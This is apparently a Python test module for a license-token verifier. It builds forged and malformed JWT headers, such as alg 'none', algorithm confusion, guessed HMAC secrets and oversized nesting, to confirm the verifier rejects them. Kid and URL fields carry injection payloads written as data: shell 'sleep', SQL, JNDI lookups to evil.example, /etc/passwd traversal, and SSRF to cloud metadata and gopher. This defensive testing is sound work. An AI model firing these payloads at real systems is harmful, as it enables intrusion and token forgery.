"""Rows B: the JOSE header. Every token here is signed over the header that it has."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

from licet.core.token.compact import FORBIDDEN, MAX_HEADER
from tests.attacks.case import Case, bearer, row
from tests.attacks.forge import (
    all_keys,
    dumps,
    header,
    issuer_of,
    jwk_of,
    jws,
    mac,
    signed,
    with_header,
    with_signature,
)
from tests.attacks.token import queried
from tests.licenses import FORGER, ISSUER, ISSUER_NAME, claims, license_token


def members(**raw: str) -> bytes:
    """Return a header object whose members are written as given, in addition to the good ones."""
    good = {name: json.dumps(value) for name, value in header().items()}
    written = ",".join(f'"{name}":{value}' for name, value in {**good, **raw}.items())
    return f"{{{written}}}".encode("utf-8", "surrogatepass")


@row("B01")
def no_object() -> Iterator[Case]:
    """A header is a JSON object with members."""
    for text in ("[]", "null", '"EdDSA"', "1", "1.5", "true", "{}", "", " ", "{", "x", "[{}]"):
        yield Case(f"{text!r}", bearer(jws(text.encode())))
    yield Case("the object in a list", bearer(jws(b"[" + dumps(header()) + b"]")))
    yield Case("the object in a string", bearer(jws(json.dumps(json.dumps(header())).encode())))
    yield Case("something behind it", bearer(jws(dumps(header()) + b"{}")))
    yield Case("a trailing comma", bearer(jws(dumps(header())[:-1] + b",}")))


@row("B02")
def duplicates() -> Iterator[Case]:
    """A member that stands twice could be read in two ways, so it is read in none."""
    good = dumps(header())
    for name, bad in {
        "alg": '"none"',
        "kid": '"other"',
        "typ": '"JWT"',
        "crit": "[]",
    }.items():
        right = json.dumps(header().get(name))
        for first, second in ((bad, right), (right, bad), (right, right)):
            written = f'"{name}":{first},"{name}":{second}'.encode()
            rest = dumps(header(**{name: ...}))
            yield Case(f"{name} {first} {second}", bearer(jws(rest[:-1] + b"," + written + b"}")))
    yield Case("escaped", bearer(jws(good[:-1] + b',"\\u0061lg":"EdDSA"}')))
    yield Case("an unknown one", bearer(jws(good[:-1] + b',"x":1,"x":1}')))
    yield Case("within an unknown one", bearer(jws(good[:-1] + b',"x":{"y":1,"y":2}}')))


@row("B03")
def not_utf_8() -> Iterator[Case]:
    """JSON here is UTF-8 without a byte order mark (RFC 8725bis, section 3.7)."""
    text = dumps(header()).decode()
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-8-sig"):
        yield Case(encoding, bearer(jws(text.encode(encoding))))
    yield Case("EBCDIC", bearer(jws(text.encode("cp500"))))


@row("B04")
def bad_text() -> Iterator[Case]:
    """Bytes that are no text, halves of characters and raw control characters refuse."""
    good = dumps(header())[:-1]
    for name, tail in {
        "invalid UTF-8": b',"x":"\xff"}',
        "overlong": b',"x":"\xc0\xae"}',
        "cut": b',"x":"\xe2\x82"}',
        "a surrogate in UTF-8": b',"x":"\xed\xa0\x80"}',
        "beyond Unicode": b',"x":"\xf4\x90\x80\x80"}',
        "a lone high surrogate": b',"x":"\\ud800"}',
        "a lone low surrogate": b',"x":"\\udc00"}',
        "reversed surrogates": b',"x":"\\udc00\\ud800"}',
        "a lone surrogate for a name": b',"\\ud800":1}',
        "raw NUL": b',"x":"\0"}',
        "raw LF": b',"x":"\n"}',
        "raw tab": b',"x":"\t"}',
        "raw 0x1f": b',"x":"\x1f"}',
        "NUL behind": b"}\0",
        "NaN": b',"x":NaN}',
        "infinity": b',"x":-Infinity}',
        "a number of 4 000 digits": b',"x":' + b"9" * 1500 + b"}",
        "1e999": b',"x":1e999}',
        "2^53 + 1": b',"x":9007199254740993}',
        "a comment": b"/**/}",
        "a bad escape": b',"x":"\\x41"}',
    }.items():
        yield Case(name, bearer(jws(good + tail)))
    yield Case("a surrogate for a kid", bearer(jws(members(kid='"\\ud800"'))))


@row("B05")
def nesting() -> Iterator[Case]:
    """Depth is counted before it is entered: 32 and no more, however the caller's stack stands."""
    for depth in (31, 32, 33, 100, 900, 1_000, 100_000):
        answer: dict[str, Any] = {"status": 200, "code": None} if depth < 32 else {}
        nested = "[" * depth + "]" * depth  # inside the object, which is the first level
        yield Case(f"lists, {depth} deep", bearer(jws(members(x=nested))), **answer)
    for depth in (33, 200):
        nested = '{"y":' * depth + "1" + "}" * depth
        yield Case(f"objects, {depth} deep", bearer(jws(members(x=nested))))
    large = {"max_token_size": 65_536}
    yield Case("never closed", bearer(jws(b'{"x":' + b"[" * 1_500)))
    yield Case("20 000 deep", bearer(jws(members(x="[" * 20_000 + "]" * 20_000))), options=large)


def sized(length: int) -> bytes:
    """Return a good header of exactly `length` bytes."""
    whole = dumps(header(x=""))
    return whole[:-2] + b"x" * (length - len(whole)) + whole[-2:]


@row("B06")
def large() -> Iterator[Case]:
    """A header of 2 KiB is the longest."""
    roomy = {"max_token_size": 65_536}
    for options in ({}, roomy):
        name = "in a large token" if options else "in any token"
        longest = bearer(jws(sized(MAX_HEADER)))
        yield Case(f"2048 {name}", longest, 200, None, options=options)
        yield Case(f"2049 {name}", bearer(jws(sized(MAX_HEADER + 1))), options=options)
    yield Case("40 000", bearer(jws(sized(40_000))), options=roomy)
    yield Case("300 000", bearer(jws(sized(300_000))), options=roomy)
    many = dumps(header() | {f"m{n}": 0 for n in range(2_000)})
    yield Case("2 000 members", bearer(jws(many)), options=roomy)


@row("B07")
def alg_of_another_type() -> Iterator[Case]:
    """`alg` is a string, and there."""
    yield Case("missing", bearer(with_header(alg=...)))
    for value in (None, 0, 256, -8, True, False, [], ["EdDSA"], {}, {"EdDSA": 1}, "", 1.5):
        yield Case(f"{value!r}", bearer(with_header(alg=value)))


@row("B08")
def none() -> Iterator[Case]:
    """No spelling of `none` is an algorithm, under whatever signature."""
    for alg in (
        "none",
        "None",
        "NONE",
        "nOnE",
        "none ",
        " none",
        "none\0",
        "n\u043ene",
        "",
        "null",
    ):
        token = with_header(alg=alg)
        yield Case(f"{alg!r}, signed", bearer(token))
        cut = token.rpartition(".")[0]
        yield Case(f"{alg!r}, empty", bearer(f"{cut}."))
        yield Case(f"{alg!r}, without the dot", bearer(cut))
        yield Case(f"{alg!r}, of zeros", bearer(with_signature(token, bytes(64))))
        yield Case(f"{alg!r}, one byte", bearer(with_signature(token, b"\0")))
    yield Case("kid none too", bearer(with_header(alg="none", kid="none", typ="JWT")))


@row("B09")
def alg_of_another_spelling() -> Iterator[Case]:
    """The name of an algorithm is compared exactly."""
    for alg in (
        "rs256",
        "Rs256",
        "RS256 ",
        " RS256",
        "RS256\0",
        "RS256\n",
        "RS-256",
        "RS\uff12\uff15\uff16",
        "RS\u0662\u0665\u0666",
        "SHA256withRSA",
    ):
        token = jws(header("RS256", alg=alg), alg="RS256")
        yield Case(f"{alg!r}", bearer(token), options=all_keys())
    for alg in ("eddsa", "EDDSA", "EdDSA ", "ed25519", "ED25519", "EdD\u017fA", "\tEdDSA"):
        yield Case(f"{alg!r}", bearer(with_header(alg=alg)))
    for alg in ("es256", "ES256 ", "Es256"):
        token = jws(header("ES256", alg=alg), alg="ES256")
        yield Case(f"{alg!r}", bearer(token), options=all_keys())


@row("B10")
def alg_of_another_key() -> Iterator[Case]:
    """A key verifies its own algorithm, also where the header names another that is allowed."""
    names = ("EdDSA", "ES256", "RS256", "PS256")
    for key in names:
        yield Case(f"{key} by {key}", bearer(jws(alg=key)), 200, None, options=all_keys())
        for alg in names:
            if alg != key:
                token = jws(header(key, alg=alg), alg=key)
                yield Case(f"{alg} by the key of {key}", bearer(token), options=all_keys())
                token = jws(header(key, kid=issuer_of(alg).kid), alg=key)
                yield Case(f"{key} with the kid of {alg}", bearer(token), options=all_keys())
    # The same RSA key could do both; its `alg` says which it does.
    other = issuer_of("PS256")
    token = jws(header("RS256", kid=other.kid), alg="RS256")
    yield Case("RS256 by a PS256 kid", bearer(token), options=all_keys())
    for alg in ("RS384", "RS512"):
        token = jws(header("RS256", alg=alg), alg="RS256")
        yield Case(alg, bearer(token), options=all_keys())


@row("B11")
def shared_secrets() -> Iterator[Case]:
    """A shared secret is nobody's signature."""
    for alg in ("HS256", "HS384", "HS512"):
        yield Case(f"{alg}, signed truly", bearer(with_header(alg=alg)))
        for secret in (b"", b"\0", b"secret", b"your-256-bit-secret", ISSUER.kid.encode()):
            token = mac(secret, alg, header(alg=alg))
            yield Case(f"{alg} of {secret!r}", bearer(token))
            yield Case(f"{alg} of {secret!r}, all keys", bearer(token), options=all_keys())
    yield Case("an HMAC named EdDSA", bearer(mac(b"secret", "HS512", header())))


@row("B12")
def alg_not_configured() -> Iterator[Case]:
    """What is not configured is unknown, real or not."""
    for alg in (
        *("RS1", "ES256K", "HS1", "RSA1_5", "RSA-OAEP", "dir", "A128KW", "A256GCM", "A128GCMKW"),
        *("ECDH-ES", "PBES2-HS256+A128KW", "ML-DSA-44", "ML-DSA-65", "ML-DSA-87", "Ed448"),
        *("ES384", "ES512", "RS384", "RS512", "PS384", "PS512", "ES256 EdDSA", "foo", "x" * 1000),
        *("__class__", "verify", "SLH-DSA-SHA2-128s"),
    ):
        yield Case(alg[:20], bearer(with_header(alg=alg)))


@row("B13")
def two_names_of_one_algorithm() -> Iterator[Case]:
    """`Ed25519` (RFC 9864) and `EdDSA` are one, by default and wherever either is configured."""
    for alg in ("Ed25519", "EdDSA"):
        token = with_header(alg=alg)
        yield Case(f"{alg} by default", bearer(token), 200, None)
        for configured in ("Ed25519", "EdDSA"):
            options = {"algorithms": (configured,)}
            yield Case(f"{alg} where {configured} is", bearer(token), 200, None, options=options)
        others = {"jwks": {"keys": [jwk_of("ES256")]}, "algorithms": ("ES256",)}
        yield Case(f"{alg} where neither is", bearer(token), options=others)


@row("B14")
def no_kid() -> Iterator[Case]:
    """The key is named, with one key as with many; they are never tried in turn."""
    yield Case("one key", bearer(with_header(kid=...)))
    for alg in ("EdDSA", "ES256", "RS256"):
        token = jws(header(alg, kid=...), alg=alg)
        yield Case(f"many keys, {alg}", bearer(token), options=all_keys())


@row("B15")
def kid_of_another_type() -> Iterator[Case]:
    """`kid` is a string that is not empty."""
    for value in (0, 1, -1, 1.5, None, True, False, [], [ISSUER.kid], {}, {"kid": ISSUER.kid}, ""):
        yield Case(f"{value!r}"[:24], bearer(with_header(kid=value)))


@row("B16")
def odd_kid() -> Iterator[Case]:
    """`kid` is 1 to 256 printable ASCII characters."""
    for length in (256, 257, 1_000, 1_500, 1_000_000):
        yield Case(f"{length} letters", bearer(with_header(kid="k" * length)))
    for mark in ("\0", "\r\n", "\n", "\t", "\x1b[31m", "\x7f", "\x85", "\u2028", "é", "\u202e"):
        yield Case(f"{mark!r} behind", bearer(with_header(kid=ISSUER.kid + mark)))
        yield Case(f"{mark!r} before", bearer(with_header(kid=mark + ISSUER.kid)))
    log = "x\r\nHTTP/1.1 200 OK\r\n\r\nX-License: yes"
    yield Case("a response", bearer(with_header(kid=log)))


def unknown(*kids: str) -> Iterator[Case]:
    """Yield tokens that name these keys: signed truly, by a file of nothing, and by a forger."""
    for kid in kids:
        yield Case(kid, bearer(with_header(kid=kid)))
        for secret in (b"", b"\0"):
            yield Case(
                f"{kid}, HS256 of {secret!r}",
                bearer(mac(secret, "HS256", header(alg="HS256", kid=kid))),
            )
        yield Case(f"{kid}, forged", bearer(FORGER.sign(claims(), header={"kid": kid})))


@row("B17")
def kid_of_a_file() -> Iterator[Case]:
    """A kid is looked up among the keys and nowhere else."""
    yield from unknown(
        "../../../../dev/null",
        "/dev/null",
        "file:///etc/passwd",
        "C:\\x",
        "\\\\evil.example\\x",
        "/proc/self/environ",
        "....//....//etc/hostname",
        "http://evil.example/key",
        f"./{ISSUER.kid}",
        f"{ISSUER.kid}/../{ISSUER.kid}",
    )


@row("B18")
def kid_of_an_interpreter() -> Iterator[Case]:
    """A kid is nobody's language."""
    yield from unknown(
        "x' UNION SELECT '1';--",
        "' OR '1'='1",
        "$(sleep 10)",
        "| sleep 10",
        "`sleep 10`",
        "*)(uid=*",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "%s%s%n",
        "{0.__class__}",
        "*",
        f"{ISSUER.kid}' --",
        "<script>alert(1)</script>",
    )


@row("B19")
def kid_of_an_attribute() -> Iterator[Case]:
    """A kid is no attribute, method or index of whatever holds the keys."""
    yield from unknown(
        "__class__", "__init__", "constructor", "__proto__", "keys", "get", "0", "-1"
    )
    yield from unknown("None", "null", ISSUER.kid[:-1], ISSUER.kid + "=", ISSUER.kid.swapcase())
    yield from unknown(f" {ISSUER.kid}", f"{ISSUER.kid} ")


def forbidden(name: str, *values: Any) -> Iterator[Case]:
    """Yield good licenses but for one header member that no license has."""
    for value in values:
        token = with_header(**{name: value})
        yield Case(f"{name} {value!r}"[:60], bearer(token))


_ANYTHING: tuple[Any, ...] = (None, True, 0, "", "x", [], {}, ["x"])


@row("B20")
def addresses() -> Iterator[Case]:
    """No header makes Licet call an address, its own issuer's included."""
    addresses = (
        "https://evil.example/jwks.json",
        "http://169.254.169.254/latest/meta-data/",
        "http://127.0.0.1:9/jwks.json",
        "file:///etc/passwd",
        "gopher://127.0.0.1:6379/_SET",
        f"{ISSUER_NAME}/.well-known/jwks.json",
        f"{ISSUER_NAME}/redirect?to=https://evil.example",
        f"{ISSUER_NAME}@evil.example/",
    )
    for name in ("jku", "x5u"):
        yield from forbidden(name, *addresses, *_ANYTHING)
        for address in addresses[:2]:
            token = FORGER.sign(claims(), header={name: address})
            yield Case(f"forged, {name} {address}", bearer(token))


@row("B21")
def embedded_key() -> Iterator[Case]:
    """A key that a token brings along vouches for nothing."""
    theirs, ours = FORGER.jwks()["keys"][0], ISSUER.jwks()["keys"][0]
    for kid in (FORGER.kid, ISSUER.kid):
        token = FORGER.sign(claims(), header={"jwk": theirs, "kid": kid})
        yield Case(f"valid under it, kid {kid[:4]}", bearer(token))
    token = FORGER.sign(claims(), header={"jwk": {**theirs, "kid": ISSUER.kid}, "kid": ISSUER.kid})
    yield Case("by our name", bearer(token))
    yield from forbidden("jwk", ours, theirs, {"kty": "oct", "k": ""}, *_ANYTHING)


@row("B22")
def certificates() -> Iterator[Case]:
    """A chain that a token brings along is never read."""
    yield from forbidden("x5c", ["MIIB"], ["!"], ["MIIB"] * 200, [["MIIB"]], *_ANYTHING)
    roomy = {"max_token_size": 65_536}
    yield Case("1 000", bearer(with_header(x5c=["MIIB"] * 1000)), options=roomy)
    token = FORGER.sign(claims(), header={"x5c": ["MIIB"], "kid": ISSUER.kid})
    yield Case("forged", bearer(token))


@row("B23")
def malformed_crit() -> Iterator[Case]:
    """`crit` refuses in every shape."""
    yield from forbidden("crit", [], None, "", "exp", [[]], [["exp"]], [1, None], {}, 0, True)
    yield from forbidden("crit", ["x", "x"], ["b64", "b64"], [""])
    roomy = {"max_token_size": 65_536}
    many = with_header(crit=[f"n{number}" for number in range(5_000)])
    yield Case("5 000 names", bearer(many), options=roomy)


@row("B24")
def unknown_crit() -> Iterator[Case]:
    """Nothing is understood that must be understood, known or not, present or not."""
    yield from forbidden("crit", ["x"], ["alg"], ["exp"], ["kid", "typ"], ["crit"], ["http://x/"])
    for present in ({"x": 1}, {"exp": 1}, {"http://openbanking.org.uk/iat": 1}):
        yield Case(f"{present}", bearer(with_header(**present, crit=list(present))))
    token = FORGER.sign(claims(), header={"crit": ["x"], "x": True})
    yield Case("forged", bearer(token))


@row("B25")
def unencoded_payload() -> Iterator[Case]:
    """A payload is always encoded (RFC 7797 is not spoken), and `b64` is never there."""
    for value in (True, False, "false", "true", 0, 1, None, []):
        yield Case(f"crit, b64 {value!r}", bearer(with_header(crit=["b64"], b64=value)))
        yield Case(f"b64 {value!r}", bearer(with_header(b64=value)))
    yield Case("crit without b64", bearer(with_header(crit=["b64"])))
    head = with_header(b64=False, crit=["b64"]).split(".")[0]
    raw = json.dumps(claims(), separators=(",", ":"))
    yield queried("a raw payload", signed(head, raw))
    yield queried("a raw payload, b64 absent", signed(license_token().split(".")[0], raw))


@row("B26")
def another_type() -> Iterator[Case]:
    """A token of another kind is no license, though the issuer signed it."""
    for typ in (
        *("at+jwt", "application/at+jwt", "dpop+jwt", "secevent+jwt", "logout+jwt", "JWT", "jwt"),
        *("JOSE", "JOSE+JSON", "", " ", "license", "license+jwt2", "xlicense+jwt", "jwt+license"),
        *("license-validation+jwt", "statuslist+jwt", "token-introspection+jwt", "entitlement+jwt"),
    ):
        yield Case(f"{typ!r}", bearer(with_header(typ=typ)))
    yield Case("absent", bearer(with_header(typ=...)))
    lenient = {"token_type": None}
    for typ in ("JWT", "jwt", "application/jwt", "license+jwt", ...):
        yield Case(f"{typ!r} where any", bearer(with_header(typ=typ)), 200, None, options=lenient)
    for typ in ("at+jwt", "dpop+jwt", "statuslist+jwt", "license-validation+jwt", "", "JOSE"):
        yield Case(f"{typ!r} where any", bearer(with_header(typ=typ)), options=lenient)


@row("B27")
def spellings_of_the_type() -> Iterator[Case]:
    """A type is compared without case and without `application/` (RFC 7515, section 4.1.9)."""
    for typ in (
        "license+jwt",
        "LICENSE+JWT",
        "License+Jwt",
        "application/license+jwt",
        "Application/License+JWT",
        "APPLICATION/LICENSE+JWT",
    ):
        yield Case(typ, bearer(with_header(typ=typ)), 200, None)
    for typ in (
        "application/application/license+jwt",
        "text/license+jwt",
        "/license+jwt",
        "license+jwt;v=1",
        "license+jwt ",
        " license+jwt",
        "license+jwt\0",
        "license jwt",
        "l\u0131cense+jwt",
        "licen\u017fe+jwt",
        "application\\license+jwt",
    ):
        yield Case(f"{typ!r}", bearer(with_header(typ=typ)))


@row("B28")
def type_of_another_type() -> Iterator[Case]:
    """`typ` is a string where it is there."""
    for value in (None, 0, 5, 1.5, True, [], ["license+jwt"], {}, {"license+jwt": 1}):
        yield Case(f"{value!r}", bearer(with_header(typ=value)))
        yield Case(
            f"{value!r} where any", bearer(with_header(typ=value)), options={"token_type": None}
        )


@row("B29")
def members_of_jwe() -> Iterator[Case]:
    """A member of an encrypted token's header is in no license's."""
    names = {"zip", "enc", "epk", "p2c", "p2s", "apu", "apv", "iv", "tag"}
    assert names <= FORBIDDEN
    for name in sorted(names):
        yield from forbidden(name, *_ANYTHING)
    yield from forbidden("zip", "DEF")
    yield from forbidden("enc", "A256GCM")
    yield from forbidden("epk", jwk_of("ES256"))


@row("B30")
def claims_in_the_header() -> Iterator[Case]:
    """Claims that the header repeats are never preferred to those of the payload."""
    repeated = {"iss": "https://evil.example", "aud": "another", "sub": "lic_2", "exp": 1}
    for name, value in repeated.items():
        yield Case(f"another {name}", bearer(with_header(**{name: value})), 200, None)
    right = {name: claims()[name] for name in ("iss", "aud", "sub", "exp")}
    for name in ("iss", "aud"):
        body = claims(**{name: repeated[name]})
        yield Case(f"right {name} in the header only", bearer(jws(header(**right), body)))
    yield Case("no end but the header's", bearer(jws(header(**right), claims(exp=None))))
    feature = jws(header(features=["analytics"]), claims(features=[]))
    yield Case("a feature", bearer(feature), 403, "feature_not_licensed", path="/reports")


@row("B31")
def unknown_members() -> Iterator[Case]:
    """What nobody has to understand is ignored."""
    for extra in (
        {"x": 1},
        {"": ""},
        {"nonce": "x", "ver": [1, {"y": None}]},
        {"x5t": "x", "x5t#S256": "x"},
        {"ALG": "none", "Kid": "x", "CRIT": ["x"]},
        {"alg ": "none"},
        {"\ue000é": "é"},
        {"ppt": "x", "url": "https://x.example", "svt": []},
    ):
        yield Case(f"{sorted(extra)}", bearer(with_header(**extra)), 200, None)
    token = FORGER.sign(claims(), header={"x": 1, "kid": ISSUER.kid})
    yield Case("forged", bearer(token))
